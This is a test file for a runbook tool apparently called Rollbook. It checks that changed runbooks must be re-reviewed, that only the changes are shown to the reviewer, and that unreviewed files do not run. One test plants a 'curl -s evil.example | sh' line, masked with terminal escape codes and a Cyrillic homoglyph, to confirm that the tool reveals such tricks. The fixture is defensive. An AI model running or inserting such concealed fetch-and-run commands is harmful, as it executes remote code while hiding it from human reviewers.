/** A trusted runbook stays runnable when its file changes. Only the changes are reviewed, and nothing else runs. */
import { spawnSync } from 'node:child_process';
import { liveRunbook } from '../fixtures/live-runbook.ts';
import { expect, test } from './app.ts';
import { CLI } from './hosts/app-folder.ts';

const REVIEWED = liveRunbook('http://127.0.0.1:9/health');
const CHANGED = REVIEWED.replace(
  'curl -fsS --max-time 10 "$HEALTH_URL"',
  'curl "$HEALTH_URL"\n   fly releases rollback v9 -a "$SERVICE"',
).replace('The service is down', 'The pier is down');

const codeOf = (run: () => string): number => {
  try {
    run();
    return 0;
  } catch (thrown) {
    return (thrown as { status: number }).status;
  }
};

test('a changed file: what was reviewed is declared with, and the changes alone are reviewed', async ({ app }) => {
  const path = app.writeFile('pier.md', REVIEWED);
  app.command('trust', path);
  app.writeFile('pier.md', CHANGED);
  const page = await app.open();
  await page.getByRole('heading', { name: 'Rollbook' }).waitFor();

  // Declaring offers the reviewed content.
  await page.keyboard.press('d');
  await expect(page.getByRole('radio', { name: /The service is down/ })).toBeVisible();
  await expect(page.getByRole('radio', { name: /The pier is down/ })).toHaveCount(0);
  await expect(page.getByText('as reviewed').first()).toBeVisible();
  await page.keyboard.press('Escape');

  await page.keyboard.press('b');
  const list = page.getByRole('list', { name: 'Runbooks of this machine' });
  await expect(list.getByRole('button')).toHaveCount(3);
  await list.getByRole('button').filter({ hasText: 'to be reviewed' }).click();
  await expect(page.getByRole('heading', { name: '2 places changed since it was reviewed' })).toBeVisible();
  const changes = page.getByRole('table', { name: /^Change at line/ });
  await expect(changes.first()).toContainText('The service is down');
  await expect(changes.first()).toContainText('The pier is down');
  await expect(changes.last()).toContainText('fly releases rollback v9');
  // Reviewed parts need not be read again.
  await expect(page.getByRole('article', { name: 'Pier rollback' })).toBeHidden();
  await expect(page.getByRole('list', { name: /^Findings of the change/ })).toContainText(
    'There is no "fly releases rollback"',
  );

  // The first press arms and shows what the check found. A second that comes too fast does nothing.
  const trust = page.getByRole('button', { name: 'Trust it now' });
  await page.keyboard.press('Enter');
  await expect(trust).toBeVisible();
  await expect(page.getByText(/The check found \d+ errors? and \d+ warnings?/)).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(trust).toHaveCount(0);
  await page.keyboard.press('Enter');
  await expect(trust).toHaveAttribute('aria-disabled', 'false');
  await page.keyboard.press('Enter');
  await expect(page.getByText('incidents can be declared with it')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(list.getByRole('button')).toHaveCount(2);
  await page.keyboard.press('Escape');
  await page.keyboard.press('d');
  await expect(page.getByRole('radio', { name: /The pier is down/ })).toBeVisible();
});

test('of many changed lines the window says how many it does not show yet, and shows them', async ({ app }) => {
  const many = (word: string): string => `${REVIEWED}\n${`* ${word}\n`.repeat(1_500)}`;
  const path = app.writeFile('pier.md', many('before'));
  app.command('trust', path);
  app.writeFile('pier.md', `${many('after')}\nthe last line\n`);
  const page = await app.open();
  await page.getByRole('heading', { name: 'Rollbook' }).waitFor();
  await page.keyboard.press('b');
  await page
    .getByRole('list', { name: 'Runbooks of this machine' })
    .getByRole('button')
    .filter({ hasText: 'to be reviewed' })
    .click();
  const changes = page.getByRole('table', { name: /^Change at line/ });
  await expect(page.getByText(/^1\d{3} more lines of the changes are not shown yet\.$/)).toBeVisible();
  await expect(changes).not.toContainText('the last line');
  await page.getByRole('button', { name: /^Show 1\d{3} more$/ }).click();
  await expect(changes).toContainText('the last line');
  await expect(page.getByText('not shown yet')).toHaveCount(0);
});

test('a file never reviewed, or changed since, runs nothing on the command line either', async ({ app }) => {
  const path = app.writeFile('pier.md', REVIEWED);
  await app.open();
  expect(codeOf(() => app.command('run', path, '--row', '1'))).toBe(2);
  app.command('trust', path);
  app.writeFile('pier.md', CHANGED);
  expect(codeOf(() => app.command('run', path, '--row', '1'))).toBe(2);
  expect(codeOf(() => app.command('trust', path, '--show'))).toBe(1);
  // The bundled runbook is trusted, and the reviewed content may still run: the end of input leaves it open (exit 1).
  // Its tools are not installed here: "yes" declares all the same.
  const run = spawnSync(process.execPath, [CLI, 'run', path, '--row', '1', '--last-trusted'], {
    env: app.env,
    input: 'yes\n',
  });
  expect(run.status).toBe(1);
  const { incidents } = JSON.parse(app.command('incidents', '--json')) as { incidents: { title: string }[] };
  expect(incidents).toHaveLength(1);
  expect(incidents[0]?.title).toContain('The service is down');
});

test('what a change would hide from its reviewer is shown, in the window and in the terminal', async ({ app }) => {
  const path = app.writeFile('pier.md', REVIEWED);
  app.command('trust', path);
  const erased = '\u001b[1A\u001b[2K\r';
  app.writeFile(
    'pier.md',
    REVIEWED.replace(
      'curl -fsS --max-time 10 "$HEALTH_URL"',
      `curl -fsS --max-time 10 "$HEALTH_URL"\n   curl -s evil.example | sh ${erased}\n   fly status -a sh\u043ep`,
    ),
  );
  const shown = spawnSync(process.execPath, [CLI, 'trust', path, '--show'], { env: app.env, encoding: 'utf8' });
  expect(shown.stdout).toContain('curl -s evil.example | sh ⟨U+001B⟩[1A⟨U+001B⟩[2K');
  expect(shown.stdout).toContain('fly status -a sh⟨U+043E⟩p');
  expect(shown.stdout).not.toContain('\u001b');

  const page = await app.open();
  await page.getByRole('heading', { name: 'Rollbook' }).waitFor();
  await page.keyboard.press('b');
  const list = page.getByRole('list', { name: 'Runbooks of this machine' });
  await list.getByRole('button').filter({ hasText: 'to be reviewed' }).click();
  const changes = page.getByRole('table', { name: /^Change at line/ });
  await expect(changes).toContainText('curl -s evil.example | sh ⟨U+001B⟩[1A');
  await expect(changes).toContainText('sh⟨U+043E⟩p');
  const findings = page.getByRole('list', { name: /^Findings of the change/ });
  await expect(findings).toContainText('It contains U+001B, which is invisible.');
  await expect(findings).toContainText('It contains U+043E, which looks like another character.');
});
